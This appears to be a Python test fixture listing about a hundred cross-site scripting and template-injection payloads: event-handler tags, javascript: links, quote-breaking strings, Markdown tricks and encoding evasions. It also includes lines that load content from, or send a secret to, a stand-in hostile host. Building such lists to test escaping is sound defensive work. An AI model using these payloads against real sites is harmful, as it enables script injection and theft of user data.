"""A hundred ways to run a script where text is expected, used as questions, titles, quotations and pages."""

_TAGS = (
    "script", "img src=x onerror=alert(1)", "svg onload=alert(1)", "body onload=alert(1)",
    "iframe src=javascript:alert(1)", "video src=x onerror=alert(1)", "audio src=x onerror=alert(1)",
    "details open ontoggle=alert(1)", "input autofocus onfocus=alert(1)", "marquee onstart=alert(1)",
    "object data=javascript:alert(1)", "embed src=javascript:alert(1)", "a href=javascript:alert(1)",
    "form action=javascript:alert(1)", "button formaction=javascript:alert(1)", "math href=javascript:alert(1)",
    "base href=https://mechant.example/", "meta http-equiv=refresh content=0;url=javascript:alert(1)",
    "link rel=stylesheet href=https://mechant.example/x.css",
    "style>@import 'https://mechant.example/x.css';</style", "template shadowrootmode=open",
    "select onchange=alert(1)", "textarea onfocus=alert(1) autofocus", "isindex type=image src=1 onerror=alert(1)",
    "xss onmouseover=alert(1)", "svg/onload=alert`1`", "img/src/onerror=alert(1)", "ScRiPt>alert(1)</sCrIpT",
    "script/x>alert(1)</script", "svg><animate onbegin=alert(1) attributeName=x", "svg><script>alert(1)</script",
    "noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"", "p onclick=alert(1)",
    "div style=background:url(javascript:alert(1))", "table background=javascript:alert(1)",
    "frameset onload=alert(1)", "applet code=x", "keygen autofocus onfocus=alert(1)",
    "image src=x onerror=alert(1)", "bgsound src=javascript:alert(1)",
)  # fmt: skip
_BREAKS = (
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", "\" autofocus onfocus=\"alert(1)", "</blockquote><script>alert(1)</script>",
    "</mark><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "\"/><svg onload=alert(1)>",
    "{{7*7}}", "{{ config }}", "{% raw %}<script>", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}", "<?php echo 1 ?>", "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](x){onerror=alert(1)}", "![x](https://mechant.example/?q=secret)", "[x]( java\nscript:alert(1))",
    "[x](vbscript:alert(1))", "<javascript:alert(1)>", "<https://mechant.example/\" onmouseover=\"alert(1)>",
    "https://mechant.example/\"onmouseover=\"alert(1)", "https://mechant.example/'><script>alert(1)</script>",
    "[1](javascript:alert(1))", "[x]: javascript:alert(1)\n[x]", "**<img src=x onerror=alert(1)>**",
    "- <svg onload=alert(1)>", "1. <script>alert(1)</script>", "`<script>alert(1)</script>`", "*[1]<script>*",
    "> <script>alert(1)</script>", "|<script>alert(1)</script>|\n|-|", "[1][1][1]<script>alert(1)</script>",
    "\\<script>alert(1)</script>",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<scr\u200bipt>alert(1)</script>",
    "<\u0000script>alert(1)</script>", "<script\u2028>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "<script>alert(1)</script>", "<img src=x onerror=&#97;lert(1)>", "jav&#x09;ascript:alert(1)",
)  # fmt: skip
PAYLOADS = (*(f"<{tag}>" for tag in _TAGS), *_BREAKS, *_MARKDOWN, *_ENCODED)
